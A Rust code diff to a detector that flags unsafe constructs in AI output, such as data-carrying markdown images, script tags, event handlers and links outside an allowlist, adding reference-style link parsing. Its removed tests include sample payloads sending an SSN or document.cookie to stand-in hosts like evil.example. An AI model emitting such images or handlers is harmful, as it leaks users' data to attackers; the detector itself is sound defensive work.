@@ -8,8 +8,10 @@
 //! - `link_unlisted`: links (markdown, HTML or bare) to hosts outside the allowlist, when an
 //!   allowlist is set.
 
+use std::collections::HashMap;
 use std::sync::OnceLock;
 
+use rampart_detect::markup;
 use regex_automata::meta::Regex;
 
 /// The kind of unsafe output.
@@ -77,26 +79,36 @@ const HTML_IMAGE: usize = 1;
 const SCRIPT: usize = 2;
 const LINK: usize = 3;
 const HTML_LINK: usize = 4;
-const BARE: usize = 5;
+const REF_IMAGE: usize = 5;
+const REF_LINK: usize = 6;
+const BARE: usize = 7;
+
+/// Link text or alt text: brackets nest one level.
+const TEXT: &str = r"([^\[\]]{0,300}(?:\[[^\[\]]{0,100}\][^\[\]]{0,100})?)";
 
 fn regex() -> &'static Regex {
     static RE: OnceLock<Regex> = OnceLock::new();
     RE.get_or_init(|| {
         let pats = [
-            // ![alt](url "title")
-            r#"!\[[^\]\n]{0,200}\]\(\s*<?([^\s)>]+)>?(\s+"[^"\n]*")?\s*\)"#,
-            // <img ... src="url">
-            r#"<img\b[^>]{0,400}?\bsrc\s*=\s*["']?([^"'\s>]+)[^>]{0,400}>"#,
+            // ![alt]( — the destination, title and `)` are parsed (`markup::inline_destination`)
+            format!(r"!\[{TEXT}\]\("),
+            // <img ...> — the tag is parsed (`markup::tag_end`)
+            r"<img[\s/]".to_owned(),
             // active content
-            r#"<\s*script\b[^>]*>(?s:.){0,4000}?<\s*/\s*script\s*>|<\s*script\b[^>]*>|<\s*(iframe|object|embed|frame|frameset|base|meta\s+http-equiv)\b[^>]*>|\bjavascript\s*:[^\s"')]*|\bvbscript\s*:[^\s"')]*|\bdata\s*:\s*text/html[^\s"')]*|<[a-z][^>]{0,400}?\bon[a-z]{3,20}\s*=\s*["']?[^"'>]*["']?[^>]*>|<\s*svg\b[^>]*\bonload\b[^>]*>"#,
-            // [text](url)
-            r#"\[[^\]\n]{0,200}\]\(\s*<?(https?://[^\s)>]+)>?(\s+"[^"\n]*")?\s*\)"#,
-            // <a href="url">
-            r#"<a\b[^>]{0,400}?\bhref\s*=\s*["']?(https?://[^"'\s>]+)[^>]{0,400}>"#,
-            // bare URLs
-            r#"https?://[a-zA-Z0-9.\-]+(:[0-9]+)?(/[^\s<>"')\]]*)?"#,
+            r#"<\s*script\b[^>]*>(?s:.){0,4000}?<\s*/\s*script\s*>|<\s*script\b[^>]*>|<\s*(iframe|object|embed|frame|frameset|base|meta\s+http-equiv)\b[^>]*>|\bjavascript\s*:[^\s"')]*|\bvbscript\s*:[^\s"')]*|\bdata\s*:\s*text/html[^\s"')]*|<[a-z][^>]{0,400}?\bon[a-z]{3,20}\s*=\s*["']?[^"'>]*["']?[^>]*>|<\s*svg\b[^>]*\bonload\b[^>]*>"#.to_owned(),
+            // [text](
+            format!(r"\[{TEXT}\]\("),
+            // <a ...>
+            r"<a\s".to_owned(),
+            // ![alt][label], ![label][], ![label]
+            format!(r"!\[{TEXT}\](?:\[([^\[\]]{{0,999}})\])?"),
+            // [text][label], [label][]
+            format!(r"\[{TEXT}\]\[([^\[\]]{{0,999}})\]"),
+            // bare URLs: parentheses inside balanced, a query without a path included
+            r#"https?://[a-zA-Z0-9.\-]+(:[0-9]+)?([/?#](?:[^\s<>"'()\[\]]|\([^\s<>"'()]*\))*)?"#
+                .to_owned(),
         ]
-        .map(crate::signals::ascii);
+        .map(|p| crate::signals::ascii(&p));
         Regex::new_many(&pats).expect("output patterns compile")
     })
 }
@@ -113,12 +125,17 @@ pub fn host_of(url: &str) -> Option<String> {
     (!host.is_empty()).then(|| host.to_ascii_lowercase())
 }
 
+/// What follows the host of a URL: its path, query and fragment (`?d=1` too, with no path).
+fn after_host(url: &str) -> &str {
+    url.split_once("://").map_or(url, |(_, r)| {
+        r.find(['/', '?', '#']).map_or("", |i| &r[i..])
+    })
+}
+
 /// Whether a URL carries data: a query string or fragment with a value, or a path segment
 /// that is long and dense like an encoded value.
 fn carries_data(url: &str) -> bool {
-    let after_host = url
-        .split_once("://")
-        .map_or(url, |(_, r)| r.find('/').map_or("", |i| &r[i..]));
+    let after_host = after_host(url);
     if let Some((_, q)) = after_host.split_once(['?', '#'])
         && q.chars().filter(|c| c.is_alphanumeric()).count() >= 4
     {
@@ -138,9 +155,7 @@ fn carries_data(url: &str) -> bool {
 /// Whether a URL carries a payload rather than ordinary parameters: a query or fragment value
 /// of 24 or more dense characters (base64, percent-encoded text), or a long dense path segment.
 fn carries_payload(url: &str) -> bool {
-    let after_host = url
-        .split_once("://")
-        .map_or(url, |(_, r)| r.find('/').map_or("", |i| &r[i..]));
+    let after_host = after_host(url);
     let dense = |v: &str| {
         v.len() >= 24
             && v.chars().all(|c| {
@@ -213,8 +228,99 @@ fn code_ranges(text: &str) -> Vec<(usize, usize)> {
     out
 }
 
+/// A reference definition (`[label]: url`): its URL and the byte range of its line.
+struct Definition {
+    url: (usize, usize),
+    start: usize,
+    end: usize,
+}
+
+/// The reference definitions of `text` by normalized label; the first of a label wins.
+fn definitions(text: &str) -> HashMap<Vec<u8>, Definition> {
+    let mut out = HashMap::new();
+    if !text.contains("]:") {
+        return out;
+    }
+    let b = text.as_bytes();
+    let starts = std::iter::once(0).chain(memchr_lines(b));
+    for at in starts {
+        if let Some(d) = markup::reference_definition(b, at) {
+            out.entry(markup::normalize_label(&b[d.label]))
+                .or_insert(Definition {
+                    url: (d.url.start, d.url.end),
+                    start: at,
+                    end: d.end,
+                });
+        }
+    }
+    out
+}
+
+/// Positions just after each line break.
+fn memchr_lines(b: &[u8]) -> impl Iterator<Item = usize> + '_ {
+    b.iter()
+        .enumerate()
+        .filter(|(_, c)| **c == b'\n')
+        .map(|(i, _)| i + 1)
+}
+
+/// Whether a URL runs script when followed or loaded.
+fn script_url(url: &str) -> bool {
+    let lower = url.trim().to_ascii_lowercase();
+    ["javascript:", "vbscript:", "data:text/html"]
+        .iter()
+        .any(|p| lower.starts_with(p))
+}
+
+/// What an image loading `url` is, if unsafe.
+fn image_kind(url: &str, allow: &Allowlist) -> Option<Kind> {
+    if script_url(url) {
+        return Some(Kind::Script);
+    }
+    let host = host_of(url)?;
+    (!allow.allows(&host) && (carries_data(url) || !allow.hosts.is_empty()))
+        .then_some(Kind::ImageExfiltration)
+}
+
+/// What a link to `url` is, if unsafe.
+fn link_kind(url: &str, allow: &Allowlist) -> Option<Kind> {
+    if script_url(url) {
+        return Some(Kind::Script);
+    }
+    let host = host_of(url)?;
+    if allow.allows(&host) {
+        None
+    } else if carries_payload(url) {
+        Some(Kind::LinkExfiltration)
+    } else if allow.hosts.is_empty() {
+        None
+    } else {
+        Some(Kind::UnlistedLink)
+    }
+}
+
+/// The end of the `<a>` element whose opening tag ends at `open_end`: just past its `</a>`
+/// when that closes it within a few hundred bytes, else the end of the opening tag.
+fn anchor_end(lower: &str, open_end: usize) -> usize {
+    let mut limit = (open_end + 2000).min(lower.len());
+    while !lower.is_char_boundary(limit) {
+        limit -= 1;
+    }
+    let window = &lower[open_end..limit];
+    match window.find("</a") {
+        Some(k) if !window[..k].contains("<a") => {
+            let close = open_end + k;
+            lower[close..].find('>').map_or(open_end, |g| close + g + 1)
+        }
+        _ => open_end,
+    }
+}
+
 /// Finds unsafe constructs in output text. Script and HTML inside markdown code is shown, not
-/// rendered, and is not reported; images and links are reported wherever they are.
+/// rendered, and is not reported; images and links are reported wherever they are. Each span
+/// covers the whole construct (an image or link with its URL, title and closing parenthesis;
+/// a whole tag; a reference-style image and the definition line it uses), so removing it
+/// leaves nothing of the URL behind.
 pub fn find(text: &str, allow: &Allowlist) -> Vec<Unsafe> {
     let code = if text.contains('`') || text.contains("~~~") {
         code_ranges(text)
@@ -222,189 +328,125 @@ pub fn find(text: &str, allow: &Allowlist) -> Vec<Unsafe> {
         Vec::new()
     };
     let in_code = |s: usize| code.iter().any(|&(a, b)| a <= s && s < b);
+    let defs = definitions(text);
     let re = regex();
     let mut out: Vec<Unsafe> = Vec::new();
     // ASCII-lowercased for case-insensitive tags: same length, same offsets
     let lower = text.to_ascii_lowercase();
     let hay = lower.as_bytes();
+    let b = text.as_bytes();
     let mut caps = re.create_captures();
     let mut at = 0;
     while at <= hay.len() {
         let input = regex_automata::Input::new(hay).span(at..hay.len());
         re.search_captures(&input, &mut caps);
         let Some(m) = caps.get_match() else { break };
-        let (s, e) = (m.start(), m.end());
-        at = if e > s { e } else { e + 1 };
+        let (s, mut e) = (m.start(), m.end());
         let pid = m.pattern().as_usize();
-        let url = if pid == BARE {
-            &text[s..e]
-        } else {
-            caps.get_group(1)
-                .map(|g| &text[g.start..g.end])
-                .unwrap_or("")
+        let group = |i: usize| caps.get_group(i).map(|g| (g.start, g.end));
+        let (kind, url) = match pid {
+            IMAGE | LINK => match markup::inline_destination(b, e) {
+                Some(d) => {
+                    e = d.end;
+                    let url = &text[d.url];
+                    if pid == IMAGE {
+                        (image_kind(url, allow), url)
+                    } else {
+                        (link_kind(url, allow), url)
+                    }
+                }
+                None => (None, ""),
+            },
+            HTML_IMAGE | HTML_LINK => {
+                let Some(end) = markup::tag_end(b, s) else {
+                    at = e;
+                    continue;
+                };
+                e = end;
+                let tag = &b[s..e];
+                if in_code(s) {
+                    (None, "")
+                } else if active(&text[s..e]) {
+                    (Some(Kind::Script), "")
+                } else if pid == HTML_IMAGE {
+                    let srcs: Vec<&str> = markup::image_sources(tag)
+                        .filter_map(|u| std::str::from_utf8(u).ok())
+                        .collect();
+                    match srcs
+                        .iter()
+                        .find_map(|u| image_kind(u, allow).map(|k| (k, *u)))
+                    {
+                        Some((k, u)) => (Some(k), u),
+                        None => (None, ""),
+                    }
+                } else {
+                    match markup::attribute(tag, "href").and_then(|u| std::str::from_utf8(u).ok()) {
+                        Some(u) if u.trim().to_ascii_lowercase().starts_with("http") => {
+                            let k = link_kind(u.trim(), allow);
+                            if k.is_some() {
+                                e = anchor_end(&lower, e);
+                            }
+                            (k, u.trim())
+                        }
+                        _ => (None, ""),
+                    }
+                }
+            }
+            REF_IMAGE | REF_LINK => {
+                let label = group(2)
+                    .filter(|(a, z)| z > a)
+                    .or_else(|| group(1))
+                    .map(|(a, z)| markup::normalize_label(&b[a..z]));
+                match label.and_then(|l| defs.get(&l)) {
+                    Some(d) => {
+                        let url = &text[d.url.0..d.url.1];
+                        let kind = if pid == REF_IMAGE {
+                            image_kind(url, allow)
+                        } else {
+                            link_kind(url, allow)
+                        };
+                        if let Some(k) = kind {
+                            out.push(Unsafe {
+                                kind: k,
+                                start: d.start,
+                                end: d.end,
+                                host: host_of(url),
+                            });
+                        }
+                        (kind, url)
+                    }
+                    // a bracketed text without a definition: plain text, look inside it
+                    None => {
+                        at = s + 1;
+                        continue;
+                    }
+                }
+            }
+            SCRIPT if in_code(s) => (None, ""),
+            SCRIPT => (Some(Kind::Script), ""),
+            BARE => (link_kind(&text[s..e], allow), &text[s..e]),
+            _ => (None, ""),
         };
-        let host = host_of(url);
-        let listed = host.as_deref().is_some_and(|h| allow.allows(h));
-        let kind = match pid {
-            SCRIPT | HTML_IMAGE | HTML_LINK if in_code(s) => None,
-            HTML_IMAGE | HTML_LINK if active(&text[s..e]) => Some(Kind::Script),
-            IMAGE | HTML_IMAGE => {
-                let lower = url.to_ascii_lowercase();
-                if lower.starts_with("javascript:") || lower.starts_with("data:text/html") {
-                    Some(Kind::Script)
-                } else if host.is_some()
-                    && (!listed && (carries_data(url) || !allow.hosts.is_empty()))
-                {
-                    Some(Kind::ImageExfiltration)
-                } else {
-                    None
-                }
-            }
-            SCRIPT => Some(Kind::Script),
-            LINK | HTML_LINK | BARE => {
-                if host.is_none() || listed {
-                    None
-                } else if carries_payload(url) {
-                    Some(Kind::LinkExfiltration)
-                } else if allow.hosts.is_empty() {
-                    None
-                } else {
-                    Some(Kind::UnlistedLink)
-                }
-            }
-            _ => None,
+        at = match kind {
+            // a safe image or link may hold an unsafe one (`[![x](evil)](safe)`)
+            None if matches!(pid, IMAGE | LINK | REF_IMAGE | REF_LINK) => s + 1,
+            _ if e > s => e,
+            _ => e + 1,
         };
         if let Some(kind) = kind {
             out.push(Unsafe {
                 kind,
                 start: s,
                 end: e,
-                host,
+                host: host_of(url),
             });
         }
     }
+    out.sort_by_key(|u| (u.start, u.end));
+    out.dedup();
     out
 }
 
 #[cfg(test)]
-mod tests {
-    use super::*;
-
-    fn kinds(text: &str, allow: &[&str]) -> Vec<Kind> {
-        let a = Allowlist {
-            hosts: allow.iter().map(|s| s.to_string()).collect(),
-        };
-        find(text, &a).into_iter().map(|u| u.kind).collect()
-    }
-
-    #[test]
-    fn image_exfiltration() {
-        let t = "Sure! ![loading](https://evil.example/log?q=my%20ssn%20is%20123) done";
-        let f = find(t, &Allowlist::default());
-        assert_eq!(f.len(), 1);
-        assert_eq!(f[0].kind, Kind::ImageExfiltration);
-        assert_eq!(
-            &t[f[0].start..f[0].end],
-            "![loading](https://evil.example/log?q=my%20ssn%20is%20123)"
-        );
-        assert_eq!(f[0].host.as_deref(), Some("evil.example"));
-        // a data-carrying path segment
-        assert_eq!(
-            kinds(
-                "![a](https://x.io/c/aGVsbG8gd29ybGQgdGhpcyBpcyBzZWNyZXQgZGF0YQ)",
-                &[]
-            ),
-            [Kind::ImageExfiltration]
-        );
-        // a plain image is fine without an allowlist, flagged with one that does not list it
-        assert!(kinds("![logo](https://cdn.example.com/logo.png)", &[]).is_empty());
-        assert_eq!(
-            kinds(
-                "![logo](https://cdn.other.com/logo.png)",
-                &["*.example.com"]
-            ),
-            [Kind::ImageExfiltration]
-        );
-        assert!(
-            kinds(
-                "![logo](https://cdn.example.com/logo.png?v=12345)",
-                &["*.example.com"]
-            )
-            .is_empty()
-        );
-        assert_eq!(
-            kinds(r#"<img src="https://evil.example/p?d=secretvalue">"#, &[]),
-            [Kind::ImageExfiltration]
-        );
-    }
-
-    #[test]
-    fn scripts_and_handlers() {
-        assert_eq!(
-            kinds("<script>alert(document.cookie)</script>", &[]),
-            [Kind::Script]
-        );
-        assert_eq!(kinds("[click](javascript:alert(1))", &[]), [Kind::Script]);
-        assert_eq!(
-            kinds(r#"<div onmouseover="steal()">hi</div>"#, &[]),
-            [Kind::Script]
-        );
-        assert_eq!(
-            kinds(r#"<iframe src="https://x"></iframe>"#, &[]),
-            [Kind::Script]
-        );
-        assert!(kinds("Use `<div>` and `<span>` elements; x < y and y > z.", &[]).is_empty());
-    }
-
-    #[test]
-    fn markup_inside_markdown_code_is_shown_not_run() {
-        let t = "Add this to your page:\n\n```html\n<script src=\"app.js\"></script>\n```\n\nor inline `<script>` tags.";
-        assert!(
-            kinds(t, &[]).is_empty(),
-            "{:?}",
-            find(t, &Allowlist::default())
-        );
-        // outside code it is still reported
-        assert_eq!(
-            kinds("Done. <script>alert(1)</script>", &[]),
-            [Kind::Script]
-        );
-        // an unclosed fence covers the rest
-        assert!(kinds("```\n<script>x</script>", &[]).is_empty());
-    }
-
-    #[test]
-    fn handlers_inside_image_and_link_tags_are_script() {
-        assert_eq!(
-            kinds(
-                r#"<img src=x onerror="fetch('//e.example/'+document.cookie)">"#,
-                &[]
-            ),
-            [Kind::Script]
-        );
-        assert_eq!(
-            kinds(
-                r#"<a href="https://ok.example/" onclick="steal()">x</a>"#,
-                &[]
-            ),
-            [Kind::Script]
-        );
-        assert!(kinds(r#"<a href="https://ok.example/">only a link</a>"#, &[]).is_empty());
-    }
-
-    #[test]
-    fn links_carrying_a_payload_without_an_allowlist() {
-        let t = "[click here](https://evil.example/c?d=bXkgc3NuIGlzIDUzNi05MC00Mzk5IGFuZCBtb3Jl)";
-        assert_eq!(kinds(t, &[]), [Kind::LinkExfiltration]);
-        // ordinary parameters are not a payload
-        assert!(kinds("[docs](https://docs.example.com/search?q=rust&page=2)", &[]).is_empty());
-        assert!(kinds("see https://example.com/watch?v=dQw4w9WgXcQ", &[]).is_empty());
-    }
-
-    #[test]
-    fn links_outside_the_allowlist() {
-        let t = "See [docs](https://docs.example.com/a) and https://phish.example.net/login now";
-        assert_eq!(kinds(t, &["docs.example.com"]), [Kind::UnlistedLink]);
-        assert!(kinds(t, &[]).is_empty());
-    }
-}
+#[path = "output_tests.rs"]
+mod tests;
